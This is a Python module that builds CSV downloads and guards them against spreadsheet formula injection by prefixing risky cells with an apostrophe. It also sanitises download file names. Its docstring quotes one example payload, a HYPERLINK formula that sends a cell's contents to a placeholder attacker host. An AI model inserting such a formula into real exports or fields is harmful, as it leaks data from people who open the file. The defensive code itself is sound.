"""Files people download and open in a spreadsheet: every cell goes through `safe_cell`.

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
before one) as a formula, so a title like `=HYPERLINK("http://evil.example/?x="&A1,"click")`
would run when the export is opened. Following OWASP's advice on CSV injection, such text is
written with a leading apostrophe, which spreadsheets show as plain text. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from decimal import Decimal

from starlette.responses import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?\Z")


def safe_cell(value: object) -> object:
    """The value as a spreadsheet should store it: text that could start a formula is
    prefixed with an apostrophe; numbers, dates and empty cells are left alone."""
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def file_name(name: str, extension: str) -> str:
    """A download name made only of letters, digits and dashes, so no header can be forged."""
    stem = "".join(c if c.isalnum() and c.isascii() else "-" for c in name.lower()).strip("-")
    return f"{stem or 'export'}.{extension}"


def csv_response(header: Iterable[str], rows: Iterable[Iterable[object]], name: str) -> Response:
    """A CSV download of the rows under the header, every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(title) for title in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return Response(
        out.getvalue(),
        media_type="text/csv; charset=utf-8",
        headers={"Content-Disposition": f'attachment; filename="{file_name(name, "csv")}"'},
    )
